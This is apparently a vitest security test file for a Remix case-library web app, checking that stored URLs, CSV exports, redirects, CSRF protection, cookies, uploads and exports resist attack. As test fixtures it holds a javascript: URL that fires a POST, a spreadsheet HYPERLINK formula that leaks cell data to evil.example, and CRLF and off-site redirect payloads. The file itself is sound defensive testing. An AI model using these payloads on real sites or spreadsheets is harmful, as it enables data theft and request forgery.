/**
 * Issue 11, failures 2, 3, 4, 6 and 7 in the app's loaders and actions: stored URLs, CSV formulas,
 * cross-site writes, redirects, cookies, uploads that re-read the corpus, heavy exports.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { runIngest, writeCase, markdownToCase, caseToMarkdown } from '../../ingest/corpus/index.js'
import { indexCases, lsaProvider } from '../../ingest/index/index.js'
import { processBytes } from '../../ingest/pipeline.js'
import type { Case } from '../../ingest/schema.js'
import { makeCase } from '../helpers/cases.js'
import { ROOT } from '../helpers/app-server.js'
import { getStore, reopenStore } from '~/models/store.server'
import { adminCookie } from '~/models/auth.server'
import { CSRF_COOKIE, CSRF_FIELD, formToken, newCsrfValue } from '~/models/csrf.server'
import { EXPORT_SLOTS } from '~/models/export-response.server'
import { closePacks, createPack, getPack, updatePack, addItem } from '~/models/packs.server'
import { loader as caseLoader } from '~/routes/cases.$id'
import { loader as exportCsv } from '~/routes/export[.]csv'
import { loader as exportQdpx } from '~/routes/export[.]qdpx'
import { loader as compareCsv } from '~/routes/compare[.]csv'
import { loader as handoutMd } from '~/routes/packs.$id.handout[.]md'
import { loader as langLoader } from '~/routes/lang'
import { loader as searchLoader } from '~/routes/_index'
import { action as adminAction } from '~/routes/admin'
import { action as packAction } from '~/routes/packs.$id._index'
import { action as uploadAction } from '~/routes/upload'

const BASE = 'http://casebook.test'
const EVIL_URL = 'javascript:fetch("/packs",{method:"POST"})'
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'

let dir: string
let casesDir: string

const args = (url: string, init?: RequestInit, params: Record<string, string> = {}) => ({ request: new Request(`${BASE}${url}`, init), params, context: {} })

/** A form post as this site's page sends it; `headers` adds to it (an Origin, the admin cookie). */
function post(form: FormData | URLSearchParams, headers: Record<string, string> = {}, withToken = true): RequestInit {
  const value = newCsrfValue()
  if (withToken) form.set(CSRF_FIELD, formToken(value))
  const cookie = [`${CSRF_COOKIE}=${value}`, headers.Cookie].filter(Boolean).join('; ')
  return { method: 'POST', body: form, headers: { ...headers, Cookie: cookie } }
}

async function settle(run: () => Promise<unknown>): Promise<unknown> {
  try {
    return await run()
  } catch (thrown) {
    return thrown
  }
}

function planted(): Case[] {
  const body = '幸福里社区停车难问题由议事会协商解决，业委会牵头施划车位。'
  return [
    { ...makeCase({ id: 'planted-url', title: '幸福里社区车位协商', body }), source: { name: '某网站', url: EVIL_URL } },
    makeCase({ id: 'planted-formula', title: FORMULA, body: `${FORMULA}\n${body}` }),
  ]
}

/** A file saved through the upload form, as the page sends it. */
function upload(name: string, text: string) {
  const form = new FormData()
  form.set('intent', 'save')
  form.set('file', new File([text], name))
  return uploadAction(args('/upload', post(form)))
}

beforeAll(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'casebook-sec-web-'))
  casesDir = path.join(dir, 'cases')
  cpSync(path.join(ROOT, 'corpus/raw'), path.join(dir, 'raw'), { recursive: true })
  const report = await runIngest({ corpus: path.join(dir, 'raw'), cases: casesDir })
  // Cases as an older version could have stored them: the URL unchecked.
  for (const c of planted()) writeCase(casesDir, c)
  await indexCases([...report.cases, ...planted()], { uri: path.join(dir, 'db'), provider: lsaProvider(), log: () => {} })
  process.env.LANCEDB_URI = path.join(dir, 'db')
  process.env.CASEBOOK_CASES = casesDir
  process.env.CASEBOOK_RAW = path.join(dir, 'raw')
})

afterAll(async () => {
  await reopenStore()
  closePacks()
  rmSync(dir, { recursive: true, force: true })
})

describe('given a source URL that is not http(s)', () => {
  it('keeps none from an HTML report’s canonical link', () => {
    const html = `<html><head><link rel="canonical" href="${EVIL_URL}"><title>和平里</title></head><body><p>和平里社区成立议事会，协商停车难。</p></body></html>`
    expect(processBytes('page.html', new TextEncoder().encode(html)).source.url).toBeNull()
  })

  it('keeps none from a hand-edited case file', () => {
    const text = caseToMarkdown(planted()[0])
    expect(text).toContain('javascript:')
    expect(markdownToCase(text, 'planted-url.md').source.url).toBeNull()
  })

  it('shows no link on the case page, and none reaches the CSV export or the handout', async () => {
    const page = await caseLoader(args('/cases/planted-url', undefined, { id: 'planted-url' }))
    await page.similar
    expect(page.source.url).toBeNull()
    const csv = await ((await exportCsv(args('/export.csv'))) as Response).text()
    expect(csv).not.toContain('javascript:')
    const pack = await createPack('讲义')
    await updatePack(pack.id, (p) => addItem(p, 'planted-url'))
    const md = await ((await handoutMd(args(`/packs/${pack.id}/handout.md`, undefined, { id: pack.id }))) as Response).text()
    expect(md).toContain('幸福里社区车位协商')
    expect(md).not.toContain('javascript:')
  })
})

describe('given a title a spreadsheet would run as a formula', () => {
  it('neutralises it in the dataset CSV and in the comparison CSV header', async () => {
    const csv = await ((await exportCsv(args('/export.csv'))) as Response).text()
    const row = csv.split('\r\n').find((line) => line.startsWith('planted-formula,'))!
    expect(row.split(',')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1`)
    const compare = await ((await compareCsv(args('/compare.csv?ids=planted-formula,planted-url'))) as Response).text()
    const header = compare.replace(/^\uFEFF/, '').split('\r\n')[0]
    expect(header.split(',').slice(1).every((cell) => !/^"?[=+\-@\t\r]/.test(cell))).toBe(true)
    expect(header).toContain(`"'=HYPERLINK(`)
  })
})

describe('given next= links that leave the site', () => {
  it.each(['/%09/evil.example/x', '/%0A', '/%0D%0ASet-Cookie:%20x=1', '//evil.example', '/\\evil.example', '/%5C%5Cevil.example'])(
    'the language switch redirects %s to a path of this site, without an error',
    async (next) => {
      const response = (await langLoader(args(`/lang?to=en&next=${next}`))) as Response
      expect(response.status).toBe(302)
      const location = response.headers.get('Location')!
      expect(new URL(location, BASE).origin).toBe(BASE)
      expect(location).not.toMatch(/[\t\r\n]/)
    },
  )

  it('so does the admin form after the token is entered', async () => {
    process.env.CASEBOOK_ADMIN_TOKEN = 's3cret'
    try {
      const response = (await adminAction(args('/admin', post(new URLSearchParams({ token: 's3cret', next: '/\t/evil.example/x' }))))) as Response
      expect(new URL(response.headers.get('Location')!, BASE).origin).toBe(BASE)
    } finally {
      delete process.env.CASEBOOK_ADMIN_TOKEN
    }
  })
})

describe('given CASEBOOK_ADMIN_TOKEN and a signed-in admin', () => {
  beforeAll(() => {
    process.env.CASEBOOK_ADMIN_TOKEN = 's3cret'
  })
  afterAll(() => {
    delete process.env.CASEBOOK_ADMIN_TOKEN
    delete process.env.CASEBOOK_HTTPS
  })
  const admin = () => adminCookie(new Request(`${BASE}/admin`)).split(';')[0]
  const rename = (id: string, name: string, headers: Record<string, string>, withToken = true) =>
    settle(() => packAction(args(`/packs/${id}`, post(new URLSearchParams({ intent: 'rename', name }), { Cookie: admin(), ...headers }, withToken), { id })))

  it('refuses a rename sent from a page on another port of the same host, and the pack keeps its name', async () => {
    const pack = await createPack('原名')
    const refused = await rename(pack.id, '被改', { Origin: 'http://casebook.test:8080' })
    expect(refused).toMatchObject({ init: { status: 403 } })
    expect((await getPack(pack.id))!.name).toBe('原名')
  })

  it('refuses a rename without the form token, and accepts the page’s own form', async () => {
    const pack = await createPack('原名')
    expect(await rename(pack.id, '被改', { Origin: BASE }, false)).toMatchObject({ init: { status: 403 } })
    expect((await getPack(pack.id))!.name).toBe('原名')
    const done = (await rename(pack.id, '新名', { Origin: BASE })) as Response
    expect(done.status).toBe(302)
    expect((await getPack(pack.id))!.name).toBe('新名')
  })

  it('sets the admin cookie SameSite=Strict, and Secure when served over HTTPS', async () => {
    const plain = (await adminAction(args('/admin', post(new URLSearchParams({ token: 's3cret' }))))) as Response
    expect(plain.headers.get('Set-Cookie')).toMatch(/SameSite=Strict/)
    expect(plain.headers.get('Set-Cookie')).not.toMatch(/Secure/)
    process.env.CASEBOOK_HTTPS = '1'
    const secure = (await adminAction(args('/admin', post(new URLSearchParams({ token: 's3cret' }))))) as Response
    expect(secure.headers.get('Set-Cookie')).toMatch(/SameSite=Strict.*Secure|Secure.*SameSite=Strict/)
  })
})

describe('given uploads', () => {
  afterEach(() => reopenStore())
  const ids = async (q: string) => (await searchLoader(args(`/?q=${encodeURIComponent(q)}`))).hits.map((h) => h.id)

  it('adds the uploaded case without re-reading the other case files', async () => {
    // A case file changed on disk since the last ingest: an upload must not pull it into the store.
    const file = path.join(casesDir, 'planted-url.md')
    writeFileSync(file, readFileSync(file, 'utf8').replace('施划车位', '施划车位。另建电动自行车充电棚'))
    const saved = (await upload('chongdian.txt', '光明里社区充电桩议事\n\n光明里社区就楼下私拉电线问题召开议事会，决定建设集中充电桩。')) as Response
    expect(saved.status).toBe(302)
    expect(await ids('集中充电桩')).toContain('chongdian')
    // Found by its words too, before any optimize folds the new rows into the full-text index.
    expect((await (await getStore()).search('集中充电桩', { mode: 'fulltext' })).hits.map((h) => h.id)).toContain('chongdian')
    expect((await (await getStore()).get('planted-url'))!.body).not.toContain('充电棚')
  })

  it('loses none of several uploads sent at once', async () => {
    const names = ['东园', '西园', '南园', '北园']
    const results = (await Promise.all(names.map((n, i) => upload(`yuan${i}.txt`, `${n}小区加装电梯协商\n\n${n}小区${i + 2}号楼居民协商加装电梯，业主按楼层分摊费用。`)))) as Response[]
    expect(results.map((r) => r.status)).toEqual([302, 302, 302, 302])
    for (let i = 0; i < names.length; i++) expect(await ids(`${names[i]}小区`)).toContain(`yuan${i}`)
  })
})

describe('given the exports asked for again', () => {
  afterEach(() => reopenStore())
  const province = `province=${encodeURIComponent('福建省')}`

  /** The tag an export carries, its body left unread (so it takes no slot). */
  async function tagOf(url: string, headers: Record<string, string> = {}): Promise<{ status: number; tag: string | null }> {
    const response = (await exportCsv(args(url, { headers }))) as Response
    await response.body?.cancel()
    return { status: response.status, tag: response.headers.get('ETag') }
  }

  it('gives the same bytes to requests at once and a 304 to a client that has this version', async () => {
    const responses = (await Promise.all([1, 2, 3].map(() => exportQdpx(args('/export.qdpx'))))) as Response[]
    const bodies = await Promise.all(responses.map(async (r) => Buffer.from(await r.arrayBuffer())))
    expect(bodies[1].equals(bodies[0]) && bodies[2].equals(bodies[0])).toBe(true)
    const etag = responses[0].headers.get('ETag')
    expect(etag).toBeTruthy()
    const again = (await exportQdpx(args('/export.qdpx', { headers: { 'If-None-Match': etag! } }))) as Response
    expect(again.status).toBe(304)
  })

  it('names each search and each store build apart: other filters or an upload give a new tag, and the bytes with it', async () => {
    const all = await tagOf('/export.csv')
    const fujian = await tagOf(`/export.csv?${province}`)
    expect(fujian.tag).not.toBe(all.tag)
    // The same search however its URL is spelled (an empty query, the page number) is the same export.
    expect((await tagOf(`/export.csv?q=&page=3&${province}`)).tag).toBe(fujian.tag)
    // Needs left out of a search make another export; for browsing (no query) they mean nothing.
    const needs = `q=${encodeURIComponent('小区没人管，老人多')}`
    expect((await tagOf(`/export.csv?${needs}&without=${encodeURIComponent('无物业')}`)).tag).not.toBe((await tagOf(`/export.csv?${needs}`)).tag)
    expect((await tagOf(`/export.csv?without=${encodeURIComponent('无物业')}&${province}`)).tag).toBe(fujian.tag)
    expect((await tagOf(`/export.csv?${province}`, { 'If-None-Match': `W/${fujian.tag}, "other"` })).status).toBe(304)

    expect(((await upload('lvhua.txt', '青松里小区楼道绿化\n\n青松里小区居民认领楼道花箱，物业出资三万元购置花苗。')) as Response).status).toBe(302)
    const after = (await exportCsv(args('/export.csv', { headers: { 'If-None-Match': all.tag! } }))) as Response
    expect(after.status).toBe(200)
    expect(after.headers.get('ETag')).not.toBe(all.tag)
    expect(await after.text()).toContain('青松里小区楼道绿化')
  })

  it('writes one REFI-QDA project at a time; one its client leaves or never reads holds no slot', async () => {
    const slots = EXPORT_SLOTS.qdpx
    // A body nobody reads, as Remix leaves it for HEAD: no slot taken.
    await exportQdpx(args('/export.qdpx'))
    expect(slots.busy).toBe(0)
    const first = ((await exportQdpx(args('/export.qdpx'))) as Response).body!.getReader()
    const second = ((await exportQdpx(args('/export.qdpx'))) as Response).body!.getReader()
    expect((await first.read()).done).toBe(false)
    let secondRead = false
    const waiting = second.read().then((chunk) => ((secondRead = true), chunk))
    await new Promise((resolve) => setTimeout(resolve, 50))
    expect([slots.busy, slots.queued, secondRead]).toEqual([1, 1, false])
    // The first client goes away: its export stops and the second one starts.
    await first.cancel()
    expect((await waiting).done).toBe(false)
    while (!(await second.read()).done);
    expect([slots.busy, slots.queued]).toEqual([0, 0])
  })
})
